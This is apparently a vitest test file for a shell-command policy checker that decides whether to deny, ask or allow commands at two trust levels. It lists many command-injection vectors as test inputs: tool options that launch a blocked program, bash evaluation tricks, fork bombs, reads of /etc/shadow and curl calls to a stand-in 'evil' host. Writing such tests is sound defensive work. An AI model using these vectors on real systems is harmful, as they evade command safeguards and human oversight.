import { describe, expect, it } from 'vitest';
import { judgeCommand } from '../../../src/domain/policy/judge.ts';
import { policyOf } from '../../../src/domain/policy/policy.ts';
import { ShellRules } from '../../../src/domain/policy/policy.schema.ts';

const policy = policyOf(ShellRules.parse({}));
const verdicts = (command: string) =>
  (['provisional', 'trusted'] as const).map((trust) => judgeCommand(command, policy, { trust }).verdict);

/** `reboot` is blocked; wherever a program is told to run it, it is as if it stood there alone. */
describe('a blocked program that another one is told to run is denied', () => {
  it.each([
    'fd -x reboot',
    'fd -Hx reboot now',
    "hyperfine 'reboot now' ls",
    'hyperfine --prepare reboot ls',
    'hyperfine --prepare=reboot ls',
    'ls | entr reboot',
    'parallel reboot ::: now',
    'g++ -wrapper reboot,now a.cc',
    '{"reboot",now}',
    'git -c core.pager=reboot log',
    'git -ccore.pager=reboot log',
    "git -c alias.x='!reboot' x",
    'git -c core.sshCommand=reboot fetch',
    'git -c diff.external=reboot diff',
    'git -c interactive.diffFilter=reboot add -p',
    "git -c submodule.x.update='!reboot' submodule update",
    'git clone -u reboot x',
    'git clone -qureboot x',
    'git clone --upload-p reboot x',
    'git clone -c core.fsmonitor=reboot x',
    'git clone --config core.fsmonitor=reboot x',
    "git clone 'ext::sh -c reboot'",
    'git fetch --upload-pack=reboot',
    'git push --receive-pack reboot o',
    'git archive --exec reboot --remote x',
    'git grep -Oreboot x',
    'git grep --open=reboot x',
    'git rebase --ex reboot main',
    "git config alias.x '!reboot'",
    "git config alias.x '!reboot' list; git x",
    "git config alias.x '!reboot' get; git x",
    'git config core.pager reboot unset',
    "git rebase -fx 'reboot now' HEAD~1",
    "git rebase -qx'reboot now' HEAD~1",
    "git rebase -ix 'reboot now' HEAD~1",
    "git rebase --e='reboot now' HEAD~1",
    'git grep -cOreboot 1',
    'git grep -nOreboot 1',
    'npm run env -- reboot now',
    'npm run env reboot',
    'npm run-script env -- reboot',
    'npm explore vitest -- reboot now',
    'npm explore vitest reboot',
    'npm config edit --editor reboot',
    'npm edit vitest --editor=reboot',
    'npm edit vitest --edit=reboot',
    'npm_config_viewer=reboot npm help x',
    "npm pkg set scripts.x='reboot now' && npm run x",
    'pnpm test --script-shell=reboot',
    "gh alias set p '!reboot now' && gh p",
    "gh alias set --shell p 'reboot now'",
    'gh config set pager reboot',
    'git config set --global core.pager reboot',
    'GIT_SSH_COMMAND=reboot git fetch',
    'GIT_PAGER=reboot git log',
    "PAGER='sh -c reboot' git log",
    'export EDITOR=reboot; git commit',
    'env VISUAL=reboot git commit',
    'MANPAGER=reboot man ls',
    'CC=reboot make',
    'make CC=reboot',
    'make SHELL=reboot',
    'RUSTC_WRAPPER=reboot cargo build',
    'npm_config_script_shell=reboot npm test',
    'rpm --pipe reboot -qa',
    'tar xf x --to-com reboot',
    "tar cfI /tmp/o.tar 'reboot -x y' .",
    "tar cIf 'reboot -x y' /tmp/o.tar .",
    "make 'A!=reboot now'",
    "strace -o '|reboot now' ls",
    "strace -fo'|reboot now' ls",
    "strace --output='!reboot' ls",
    "ag --pager='reboot now' x",
    'ag --pag=reboot x',
    'tar -I reboot -cf x a',
    'tar --use=reboot -cf x a',
    'tar --rmt-command=reboot -xf x',
    'rsync -ave reboot a b:c',
    'rsync --rsync-p=reboot a b:c',
    'ssh -o ProxyCommand=reboot h',
    'ssh -vo ProxyCommand=reboot h',
    "ssh -o 'proxycommand reboot' h",
    'scp -S reboot a b:c',
    'man -P reboot ls',
    'man --pag reboot ls',
    'bat --pager=reboot f',
    'sort --compress-p=reboot f',
    'fd -x reboot',
    'mysql --pager=reboot',
    'nano -s reboot f',
    'install -s --strip-program=reboot a b',
    'sdiff --diff-program=reboot a b',
    'diff3 --diff-p reboot a b c',
    'rustc -C linker=reboot a.rs',
    'rustc -Clinker=reboot a.rs',
    'cargo rustc -- -C linker=reboot',
    'go build -ldflags=-extld=reboot',
    "go build -ldflags '-s -extld reboot'",
    'cmake --build . -- SHELL=reboot',
    'bazel run --run_under=reboot //x',
    "bazel run --run_under='reboot -n' //x",
    'helm install --post-renderer=reboot x y',
    "hg --config alias.x='!reboot' x",
    "hg --config=alias.x='!reboot' x",
    'svn diff --diff-cmd=reboot',
    'npm config set script-shell reboot',
    'npm config set script-shell=reboot',
    "psql -c 'select 1' -o '|reboot'",
    "psql -c 'select 1' '-qo|reboot'",
    "duckdb -c '.sh reboot'",
    "concurrently npm:watch 'reboot now'",
    "ansible all -m shell -a 'reboot now'",
    "latexmk -pdflatex='reboot %O' x.tex",
  ])('%s', (command) => {
    expect(verdicts(command)).toEqual(['deny', 'deny']);
  });
});

describe('what a program may run that nobody can tell asks, also at full trust', () => {
  it.each([
    'fd -x {}',
    "fd -x sh -c '{}'",
    'fd --exec=./x',
    'fd -x echo \\; -x ./x',
    'fd $X',
    "hyperfine -L p a,b '{p} c'",
    'ls | entr /_',
    "ls | entr -s './x'",
    'parallel echo ::: a',
    'gcc -wrapper ./x a.c',
    'sed "s/foo/$BAR/" f',
    'sed -e "s/x/$X/e" --sandbox f',
    'sed --sandbox $X f',
    'sed "$X" --sandbox f',
    'psql db < $X',
    'psql db < a.sql < b.sql',
    'sqlite3 db < /dev/stdin',
    "echo '.shell x' > q.sql; sqlite3 db < q.sql",
    'rm -rf .[!.]*',
    'git -c protocol.ext.allow=always fetch',
    'git -c unheard.of=1 fetch',
    'git --exec-path=/x log',
    'git init --template=/x',
    'git fetch $X',
    'git clone "$X"',
    'git grep "$X"',
    'echo x | xargs git rebase',
    'npm edit vitest',
    'npm config edit',
    'gh alias set p x',
    'gh extension install x',
    'git send-email --to-cmd=x',
    'git hook run x',
    'git merge-index x -a',
    'git config --global include.path /x',
    'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager git log',
    'GIT_TEMPLATE_DIR=/x git init',
    'HOME=/x git log',
    'XDG_CONFIG_HOME=/x git log',
    "LESS='+!x' less f",
    "VIMINIT=':!x' vim f",
    'LUA_INIT=x lua x.lua',
    'MAKEFILES=/x make',
    'GOFLAGS=-toolexec=x go build',
    'go build -toolexec=x',
    'PYTHONBREAKPOINT=os.system python3 a.py',
    'CLASSPATH=/x java X',
    "rpm --eval '%(x)'",
    "rpm -E '%(x)'",
    "sqlite3 x.db '.shell x'",
    "sqlite3 -cmd '.shell x' x.db",
    "echo '.shell x' | sqlite3",
    "ftp <<< '!x'",
    'ftp h < x',
    'lftp h < x',
    "lftp -c '!x'",
    "telnet <<< '!x'",
    "sftp h <<< '!x'",
    'sftp -b - h < x',
    "mail a@b <<< '~!x'",
    'echo x | mailx -f y',
    "mail -E '!x' a@b",
    "smbclient //a/b -c 'ls; !x'",
    'echo \'.shell x\' | sqlite3 ""',
    "echo '.shell x' | sqlite3 -separator , x.db",
    "echo '.shell x' | sqlite3 -separator -help",
    "echo '.shell x' | duckdb -cmd 'select 1'",
    "echo '\\! x' | psql -hlocalhost db",
    "psql -U -c <<< '\\! x'",
    "echo '\\! x' | mysql -uroot -psecret db",
    "sqlite3 x.db 'select load_extension(1)'",
    "psql -c '\\! x'",
    'psql -c "copy t to program \'x\'"',
    "mysql -e '\\! x'",
    'tar cf x.tar --checkpoint-act exec=x a',
    'tar cIf x y a',
    'ssh -F x h',
    'ssh -o PKCS11Provider=x h',
    'vimdiff -c :x a b',
    'emacsclient --eval x',
    "less '+!x' f",
    'make -f -',
    "make 'A:=$(shell curl http://evil)'",
    "make 'A=${shell x}'",
    "make 'A!=x'",
    'g++ -wrapper curl,http://evil x.cpp',
    'cc -wrapper x,y x.c',
    'clang -wrapper x,y x.c',
    'x86_64-linux-gnu-gcc-12 -wrapper x,y x.c',
    'gcc @options x.c',
    'clang -fuse-ld=./x x.c',
    "printf '%s\\n' --checkpoint=1 '--checkpoint-action=exec=x' | xargs -d '\\n' tar cf out/x.tar a.txt",
    'echo \'"A!=x"\' | xargs make',
    'echo \'".shell x"\' | xargs sqlite3 a.db',
    'echo x | xargs -I{} tar cf a.tar {}',
    'echo x | xargs sed p',
    'tar cf x $X',
    'tar cf x "$X"',
    'tar $X',
    'sqlite3 a.db "$X"',
    'psql -c "$X" "$Y"',
    'make "$X"',
    'for f in $(cat list); do tar cf x "$f"; done',
    'docker run "$X" image',
    'make --file=/dev/stdin',
    'make -f <(echo x)',
    "make --ev='x:;y'",
    'cmake -E env x',
    'cmake -P x.cmake',
    "gnuplot -e 'x'",
    "irb <<< 'x'",
    'iex -e x',
    'mix run -e x',
    'mix eval x',
    'rails runner x',
    'sqlite3 :memory: "attach \'/x.db\' as o"',
    'sqlite3 a.db "vacuum into \'/x.db\'"',
    'duckdb -c "select * from read_text(\'/x\')"',
    'jq -n \'import "x" as $x {search: "/y"}; $x\'',
    'yq -n \'load_str("/x")\'',
    'awk \'BEGIN { ARGV[1] = "/x"; ARGC = 2 } 1\'',
    'ruby bin/rails runner x',
    'python manage.py shell -c x',
    './manage.py shell_plus',
    'php artisan tinker --execute=x',
    'echo x | php artisan tinker',
    'flask --app app shell',
    'mongosh a.js --shell',
    'clojure -M -e x',
    'kotlin -e x',
    'crystal eval x',
    'echo x | ghci',
    'jshell <<< x',
    'raku -ne x',
    'coffee -e x',
    'vite-node -e x',
    'jrunscript -e x',
    'mongosh --eval x',
    'mongosh',
    "tmux ls -F '#(x)'",
    "tmux ls ';' new x",
    'crontab f',
    'screen x',
    'pdflatex -shell-escape x.tex',
    'rake -e x',
    'awk \'BEGIN { print 1 > "/etc/x" }\'',
    "sed 'r /etc/shadow' f",
    "sed 's/a/b/w /etc/x' f",
    'sed -f - f',
    "sed --expr '1e x' f",
    "echo x | sed --e='1e sudo id'",
    "sed --e '1e x' f",
    "sed -be'1e sudo id' f",
    "sed -nbe '1e x' f",
    "sed -l 5 -e '1e x' f",
    "sed --unheard-of 's/a/b/' f",
    'sed -n',
    "sed -i.bak -e p -e '1e x' f",
    'awk -W exec /dev/stdin',
    'awk -W e /dev/stdin',
    'gawk -E /dev/stdin',
    'gawk --exec x',
    'gawk --exec=x',
    "gawk -i x '{print}'",
    "gawk -l x '{print}'",
    "gawk -e 'BEGIN { system(1) }'",
    "gawk -d/etc/x '{print}'",
    'awk \'/a/ { print | "sh" }\' f',
    'awk \'{ "date" | getline x }\' f',
    'awk \'{ print 1 |& "sh" }\' f',
    'awk \'{ if (1) /"/; print "id" | "sh"; /"/ }\' f',
    'awk \'{ x = y - /"/; print | "sh" /"/ }\' f',
    'awk \'{ print /"/; print | "sh"; print /"/ }\' f',
    'awk \'{ a = b / "2" | getline; c = d / 3 }\' f',
    'awk \'{ x ~ /[/"]/; print | "sh" /"/ }\' f',
    `awk '{ x = y${' '.repeat(99)}/ "1" | getline; x = y / "2" }' f`,
    'awk "{ print $X }" f',
    'awk \'@include "x"\' f',
    "awk $X '{print}' f",
    "python3 -v -c 'import os'",
    "ruby -v -e 'x'",
    "lua -v -e 'x'",
    'echo x | python3 -v',
    "node --title x -e '1'",
    "node --disable-warning foo -e '1'",
    "node --disable_warning foo -e '1'",
    "node --unheard-of foo -e '1'",
    'echo x | node --title foo',
    "node --version -e '1'",
    'node --test --import data:text/javascript,x',
    "php -r'x' a",
    "php -nr 'x' a",
    "julia -e'x' a",
    "julia -qe 'x' a",
    "Rscript -e'x' a",
    "osascript -e'x' a",
    'echo x > a.js; node -r ./a.js b.js',
  ])('%s', (command) => {
    for (const verdict of verdicts(command)) expect(['ask', 'deny']).toContain(verdict);
  });
});

describe('everyday uses of the same programs run', () => {
  it.each([
    'fd -e md -x wc -l',
    'fd -e ts -X grep -l foo',
    "hyperfine --warmup 3 'npm test' 'npm run b'",
    'ls | entr -r npm test',
    'sed --sandbox "s/foo/$BAR/" f',
    "rsync -e 'ssh -p 2222' -a x h:y",
    'psql db < dump.sql',
    'mysql -u me db < schema.sql',
    'mail -s done a@b < report.txt',
    'sftp -b batch.txt h',
    "sqlite3 -header -csv x.db 'select 1'",
    "psql -hlocalhost -Ume -c 'select 1'",
    "mysql -uroot -psecret -e 'select 1'",
    'smbclient -L //host',
    'npm run mail | tee log',
    'rails g model c',
    'sh scripts/install.sh reboot',
    'python3 check.py reboot',
    'bin/rails db:migrate',
    'mix test --exclude e',
    'clojure -M:test',
    'vite-node x.ts',
    'coffee -c x.coffee',
    'runghc x.hs',
    'php -S localhost:8000',
    'at -l',
    "docker run --rm --entrypoint sh app -c 'ls'",
    'git -c color.ui=never log',
    'git -c core.pager=cat log',
    'git -c user.name=a -c user.email=b@c commit -m x',
    'git config user.email a@b',
    'git config --get core.pager',
    'git config core.pager',
    'git push -u origin main',
    'git commit -c HEAD',
    'git diff --exit-code',
    'git checkout $BRANCH',
    'git add $FILES',
    'git log $RANGE',
    'git commit -m $MSG',
    'git --no-pager -C dir log "$RANGE"',
    'git config list',
    'git config get user.name',
    'git config --list --show-origin',
    'git grep -nC3 Option',
    'git rebase -sX main',
    'npm run env',
    'npm run build -- --watch',
    'npm pkg get version',
    'npm install --save-dev vitest',
    'gh alias list',
    "gh pr create --title 'x'",
    'GIT_AUTHOR_NAME=a git commit -m x',
    'PAGER=cat git log',
    'GIT_EDITOR=true git rebase --continue',
    'CC=clang make -j4',
    'make CC=gcc test',
    'make -f Makefile.dev all',
    'tar -I zstd -xf x.tar.zst',
    'tar -xzf x.tgz -C dir',
    'tar czf x.tgz *',
    'tar xzf "$X"',
    'tar -C "$X" -xzf a.tgz',
    'for f in *.log; do tar czf a.tgz "$f"; done',
    "find . -name '*.log' -exec tar rf x.tar {} +",
    "find . -name '*.ts' -exec sed -i s/a/b/ {} +",
    'docker ps -q | xargs docker stop',
    'kubectl get pod "$X"',
    'psql "$DATABASE_URL" -f schema.sql',
    'gcc -Wall -O2 -o x x.c',
    'strace -o out.txt ls "$X"',
    "make 'CFLAGS=-O2 -g' test",
    'ssh -i ~/.ssh/k -o StrictHostKeyChecking=no h uptime',
    "sqlite3 x.db '.tables'",
    "sqlite3 x.db 'select 1'",
    "psql -c '\\dt'",
    'psql -f schema.sql',
    'vim f',
    'less f',
    'rg --pretty x',
    'NODE_ENV=test npm test',
    "awk '$1 > 5 { print $2 }' f",
    "awk '/a|b/' f",
    "awk -F'|' '{print $1}' f",
    "awk -F '|' '{print $1}' f",
    "awk -v OFS='|' '{print $1, $2}' f",
    'awk \'{ print $1 "|" $2 }\' f',
    "awk '$1 ~ /x|y/ && !/z|w/ { n++ } END { print n / 2 }' f",
    'awk \'NR>1 { s += $2 / 3 } END { printf "%d > 0\\n", s }\' f',
    'awk \'{ gsub(/system/, "x"); print }\' f',
    "awk '# a|b\n{ print }' f",
    'awk --version',
    "sed -ne '1p' f",
    "sed -i.bak -E 's/a/b/' f",
    "sed --in-place --quiet 's/a/b/' f",
    'sed --version',
    'ruby -v',
    'lua -v',
    'node -v',
    'python3 -V',
    'python3 --version',
    'node --enable-source-maps dist/main.js -e production',
    'node --title x dist/main.js',
    'node --test',
    'node --test test/a.js',
    'node --import tsx src/main.ts',
    'php -dmemory_limit=-1 vendor/bin/phpunit',
    'ruby --yjit a.rb',
    'bun --hot a.ts',
    'rsync -av --exclude=x a b',
    'sort -k2 f',
    'cmake -B build -S . -DCMAKE_BUILD_TYPE=Release',
    'cmake -DBUILD_TESTING=ON -DCMAKE_C_COMPILER=clang ..',
    'cmake --build build --target install -j8',
    'crontab -l',
    'tmux ls',
    'less +F log',
    'less +/word log',
    'vim +10 f',
    'latexmk -pdf x.tex',
    'npm config set registry https://x',
    "psql -c 'select 1' -o out.txt",
    'while IFS= read -r line; do echo "$line"; done < f',
    'cat My\\ Documents/a',
  ])('%s', (command) => {
    expect(verdicts(command)).toEqual(['allow', 'allow']);
  });
});

describe('the name of a blocked program in an argument asks of whoever may run it, and of nobody else', () => {
  it.each([
    'sh /sbin/reboot',
    '. /sbin/reboot',
    'python3 bin/reboot now',
    'unheard-of reboot',
    'unheard-of --with=reboot',
    'unheard-of --with=/sbin/reboot',
    "unheard-of --with='reboot now'",
    "unheard-of 'reboot now'",
    "unheard-of -x '!reboot now'",
    'unheard-of -o a=b=reboot',
    'cmake -DCMAKE_C_COMPILER=reboot ..',
    'terraform apply -var=x=reboot',
    'docker run --runtime=reboot x',
  ])('%s', (command) => {
    expect(verdicts(command)).toEqual(['ask', 'ask']);
  });

  it.each([
    "git commit -m 'reboot fix'",
    "git commit --message='reboot fix'",
    "hg commit -m 'reboot fix'",
    "gh pr create --title 'curl is gone'",
    'grep reboot x',
    'grep --include=reboot x',
    "echo 'reboot now' a=reboot",
    'man reboot',
    'apt install sudo',
    'npm install wget',
    "pytest -k 'sudo and not root'",
    'docker run --name=curl x',
    'timeout 5 grep reboot x',
    "ssh h 'man reboot'",
    "unheard-of -m 'to reboot or not'",
    'unheard-of -su src/reboot/index.ts',
  ])('%s runs', (command) => {
    expect(verdicts(command)).toEqual(['allow', 'allow']);
  });
});

/** With Q written out: text that bash evaluates where it looks for a number or a name. */
const Q = "'a[$(reboot >&2)]'";

describe('what the shell evaluates by itself asks, also at full trust', () => {
  it.each([
    ...['declare -a', 'declare -A', 'declare -xa', 'typeset -a', 'readonly -a', 'export -a'].map(
      (declares) => `${declares} 'x=($(reboot))'`,
    ),
    "f() { local -a 'x=($(reboot))'; }; f",
    'f() { local -a "x=$1"; }; f \'($(reboot))\'',
    "x=(1); declare 'x=($(reboot))'",
    'x=(1); f() { declare -g "x=$1"; }; f \'($(reboot))\'',
    "compgen -aW '$(reboot >&2)'",
    "compgen -W'$(reboot >&2)'",
    "compgen -dC 'reboot;:' x",
    'compgen -W "$X"',
    "jobs -x awk 'BEGIN { system(1) }'",
    'jobs -lx reboot',
    `: ${Q}; echo $((_))`,
    `: ${Q}; [[ $_ -eq 0 ]]`,
    `[[ ${Q} =~ .* ]]; echo $((BASH_REMATCH))`,
    `getopts a: x -a ${Q}; echo $((OPTARG))`,
    `echo ${Q} | { read; echo $((REPLY)); }`,
    `mapfile -t <<< ${Q}; echo $((MAPFILE))`,
    `read <<< ${Q}; [[ -v $REPLY ]]`,
    ...['$(( ${1} + 1 ))', '$(( ${@} ))', '$(( ${*} ))', '$(( ${1:-0} ))', '${x:${1}}', '${x[${1}]}', '$[${1}]'].map(
      (evaluated) => `set -- ${Q}; x=abc; : ${evaluated}`,
    ),
    `set -- ${Q}; x[\${1}]=2`,
    `f() { [[ \${1} -eq 0 ]]; }; f ${Q}`,
    `f() { for ((i=\${1}; i<1; i++)); do :; done; }; f ${Q}`,
    ...['unset "$1"', 'declare "$1=2"', 'local "$1=1"', 'wait -np "$1"', 'read "$1" < f'].map(
      (names) => `f() { ${names}; }; a=(1); f ${Q}`,
    ),
    ...['read -pu x', 'read -rpd x', 'read -dn x', 'read -rax'].map((reads) => `${reads} <<< ${Q}; echo $((x))`),
    `Q=${Q}; declare 'x[Q]=1'`,
    `Q=${Q}; x=(1); unset 'x[Q]'`,
    `Q=${Q}; read 'x[Q]' <<< a`,
    `[[ $(echo ${Q}) -eq 0 ]]`,
    `echo $(( $(echo ${Q}) ))`,
    `echo $(( $(date '+a[$(reboot)]') ))`,
    "echo $(( '$(reboot >&2)' ))",
    "cat <<E\n${none:-'$(reboot)'}\nE",
    "cat <<E\n${none:-$'$(reboot)'}\nE",
  ])('%s', (command) => {
    for (const verdict of verdicts(command)) expect(['ask', 'deny']).toContain(verdict);
  });

  it.each([
    'declare -a x=(1 2 3); declare -A m=([a]=1)',
    'f() { local x="$1"; echo "$x"; }; f a',
    'x=(1 2); echo ${x[1]} ${#x[@]}',
    'compgen -A function; compgen -c; compgen -G "*.ts"',
    'jobs -l',
    'i=1; while (( i < 5 )); do i=$((i + 1)); done',
    '[[ $# -gt 1 ]]; [[ $X -eq 1 ]]',
    'read -r -p "name? " name; echo "$name"',
    'wait "$pid"; wait -n',
    "cat <<E\n${X:-'a'} it's $HOME\nE",
  ])('%s runs', (command) => {
    expect(verdicts(command)).toEqual(['allow', 'allow']);
  });

  it.each(['echo $(( $(wc -l < f) + 1 ))', 'echo $(( $(date +%s) - 1 ))', '[[ $(ls | wc -l) -gt 3 ]]'])(
    '%s runs for whoever is trusted',
    (command) => {
      expect(verdicts(command)).toEqual(['ask', 'allow']);
    },
  );
});

describe('what a program that nobody knows is given may be run by it', () => {
  const HIDDEN = [
    'awk \'BEGIN { system("re" "boot") }\'',
    "sed '1e x' f",
    "git -c alias.z='!x' z",
    "tar cf a --checkpoint=1 --checkpoint-action=exec='env x' b",
    "make --eval='x:;y'",
    "python3 -c 'import os'",
    "perl -e 'x'",
    "sh -c 'x=re; ${x}boot'",
  ];
  it.each([
    ...[
      'choom -n 0 --',
      'ssh-agent',
      'gpg-agent --daemon',
      'logsave /dev/null',
      'dpkg-architecture -c',
      'unheard-of',
    ].flatMap((wrapper) => HIDDEN.map((command) => `${wrapper} ${command}`)),
    'echo x | unheard-of bash',
    "dpkg-architecture -c ':;reboot'",
    "dpkg-architecture -c':;reboot'",
    "prove -e 'nice reboot' x.t",
    "prove -e'nice reboot' x.t",
    "unheard-of 'to reboot or not'",
    'unheard-of -xreboot',
    "docker run --entrypoint=':;reboot' x",
  ])('%s asks', (command) => {
    for (const verdict of verdicts(command)) expect(['ask', 'deny']).toContain(verdict);
  });

  it.each([
    'unheard-of completion bash',
    'unheard-of git status',
    'unheard-of -- make test',
    'unheard-of install python node',
    'docker run --rm -it ubuntu bash',
    'docker compose exec db psql -U x',
    'ssh-agent -s',
    'valgrind ./main',
    'valgrind --leak-check=full -q ./main x',
  ])('%s runs', (command) => {
    expect(verdicts(command)).toEqual(['allow', 'allow']);
  });

  it('a rule that allows the stranger lifts the doubt about what it is given', () => {
    const allowing = policyOf(ShellRules.parse({ allow: ['unheard-of *'] }));
    expect(judgeCommand("unheard-of python3 -c 'x'", allowing).verdict).toBe('allow');
    expect(judgeCommand('unheard-of reboot', allowing).verdict).toBe('ask');
  });
});

describe('a stream is one in every spelling', () => {
  const STREAMS = [
    ...[
      '/dev/stdin',
      '/dev/./stdin',
      '//dev/stdin',
      '/dev/../dev/stdin',
      '/proc/self//fd/0',
      '/proc/self/task/../fd/0',
    ],
    ...['/proc/$$/fd/0', '../../dev/stdin', 'dev/stdin', '/var/run/../dev/stdin', '/proc/self/root/dev/stdin'],
  ];
  it.each(
    ['bash', '.', 'python3', 'perl', 'awk -f', 'sed -f', 'make -f', 'node -r', 'python3 -m doctest'].flatMap((runs) =>
      STREAMS.map((stream) => `echo x | ${runs} ${stream}`),
    ),
  )('%s asks', (command) => {
    expect(verdicts(command)).toEqual(['ask', 'ask']);
  });

  it.each([
    ...["/proc/self/exe -c ':;x'", 'echo x | /proc/$$/exe', "exec /proc/self/exe -c ':;x'", '/dev/fd/3 x'],
    ...['cd /dev; bash stdin', 'ln -s /dev d; bash d/stdin'],
  ])('%s asks', (command) => {
    expect(verdicts(command)).toEqual(['ask', 'ask']);
  });

  it.each(['cat /dev/stdin', 'bash dev/setup.sh', 'cat /proc/cpuinfo', 'ln -sf /dev/null x', 'cd /dev/shm && ls'])(
    '%s runs',
    (command) => {
      expect(verdicts(command)).toEqual(['allow', 'allow']);
    },
  );
});

describe('programs under all their names, and options in all their forms', () => {
  it.each([
    "echo a | sed '1e x' - -- --version",
    "echo a | sed -- '1e x' - --help",
    'sed -f --version f; echo x > --version',
    "perl -n /dev/null 'x|'",
    "perl -n /dev/null '|x'",
    "perl5.36-x86_64-linux-gnu -e 'x'",
    'echo x | tclsh --version',
    'echo x | tclsh -encoding utf-8',
    "python3 -m pip config edit --editor 'x y'",
    'python3 -m pip --python /x list',
    'pip3 --python /x list',
    "python3 -m imaplib -s 'x'",
    "python3 -m IPython -c 'x'",
    'python3 -m pickle /dev/stdin',
    "apt-get update --option=APT::Update::Pre-Invoke::='x'",
    "apt-get update -o=APT::Update::Pre-Invoke::='x'",
    "apt-get -qoAPT::Update::Pre-Invoke::='x' update",
    'apt-get -c x update',
    'c99 -wrapper x,y x.c',
    'c89 -wrapper x,y x.c',
    "sqlite3 :memory: \"select edit/**/('a','x')\"",
    'sqlite3 :memory: \'select "edit"(1,2)\'',
    "sqlite3 :memory: 'select [writefile](1,2)'",
    'ssh h -oProxyCommand="awk x"',
    'ssh x -Fc',
    "vim.basic -es -c '!x' -c q",
    'npm pkg set \'scripts={"test":"x"}\' --json; npm test',
    'sg docker -c x',
    "echo '!x' | dc",
  ])('%s asks', (command) => {
    for (const verdict of verdicts(command)) expect(['ask', 'deny']).toContain(verdict);
  });

  it.each([
    ...[
      'nc.openbsd x',
      'nc.traditional x',
      'sudo-rs id',
      'sudo.ws id',
      'wget2 x',
      'systemctl soft-reboot',
      'sg root id',
    ],
    ...['choom -n 0 -- reboot', 'ssh-agent reboot', 'logsave x reboot', 'jobs -x reboot', 'gpg-agent --daemon reboot'],
    ...[
      'valgrind -q reboot',
      'ssh h -oProxyCommand=reboot',
      'nsenter -t 1 reboot',
      'gdb --args reboot',
      'lldb -- reboot',
    ],
    ...["pnpm -c exec 'true; reboot'", "pnpm --shell-mode exec true ';' reboot", "pnpm -rc exec 'reboot'"],
    ...[
      "yarn exec 'true; reboot'",
      'yarn workspace x exec \'re""boot\'',
      "yarn workspaces foreach -A exec 'reboot now'",
    ],
    ...[
      "npx 'a b' -c 'reboot now'",
      "bundle exec 'reboot now'",
      "git filter-branch --tree-filter 'reboot'",
      "git difftool -x 'reboot now'",
    ],
  ])('%s is denied', (command) => {
    expect(verdicts(command)).toEqual(['deny', 'deny']);
  });

  it.each([
    ...[
      'apt-get install -y --no-install-recommends x',
      'pip install -r requirements.txt',
      'python3 -m pip install -e .',
    ],
    ...[
      'python3 -m pytest -q',
      'python3-config --includes',
      'ssh h uptime',
      'ssh -p 22 h ls -la',
      'scp a h:b',
      'sg run -p x',
    ],
    ...["sqlite3 x.db 'select edited from t'", 'perl script.pl a b', 'vim.basic f', "dc -e '1 2 + p'"],
  ])('%s runs', (command) => {
    expect(verdicts(command)).toEqual(['allow', 'allow']);
  });
});

describe('a function that starts itself over and over is denied, by whatever way round', () => {
  it.each([
    ':(){ :|:& };:',
    'a(){ b|b& }; b(){ a; }; a',
    "f(){ eval 'f|f&'; };f",
    'x=\'f|f&\'; f(){ eval "$x"; };f',
    'f(){ { f; } | { f; }; };f',
    'f(){ ( f & ); };f',
    'f(){ coproc f; };f',
    'f(){ g(){ f|f& }; g; };f',
  ])('%s', (command) => {
    const { verdict, unconditional } = judgeCommand(command, policy, { trust: 'trusted' });
    expect([verdict, unconditional]).toEqual(['deny', true]);
  });

  it.each([
    'a(){ b | c; }; b(){ ls; }; c(){ cat; }; a',
    'f(){ ls & wait; }; f',
    'f(){ ls | sort; }; f & f',
    'f(){ f; }; f',
  ])('%s is none', (command) => {
    expect(verdicts(command)).toEqual(['allow', 'allow']);
  });
});

describe('the reason is the right one', () => {
  it.each([
    ['git push $X', 'what git push is given may make it run others'],
    ['git -C checkout $X', 'what git is to do is only known when it runs'],
    ['export PATH=$PATH:/x', 'PATH decides what later commands do'],
    ["node <<'E'\nconst x = [1].map((a) => a);\nE", 'node runs code in a language of its own'],
    ["psql <<'E'\nselect count(*) from t;\nE", 'psql runs code in a language of its own'],
  ])('%s', (command, because) => {
    const { reasons } = judgeCommand(command, policy, { trust: 'trusted' });
    expect(new Set(reasons.map((each) => each.because))).toEqual(new Set([because]));
  });
});

it.each([
  `sqlite3 x 'select edit${'/**/'.repeat(8000)}'`,
  `sqlite3 x '${'edit /*'.repeat(4000)}'`,
  `bash ${'../'.repeat(10_000)}fd`,
])('a long text costs no more than its length: %.30s', (command) => {
  const before = performance.now();
  verdicts(command);
  expect(performance.now() - before).toBeLessThan(1000);
});

it('a variable that is set from itself settles, and what it may name is followed', () => {
  expect(verdicts('export X=$X:a; echo $X')).toEqual(['allow', 'allow']);
  expect(verdicts('export X=sudo; export X=$X; $X id')).toEqual(['deny', 'deny']);
});
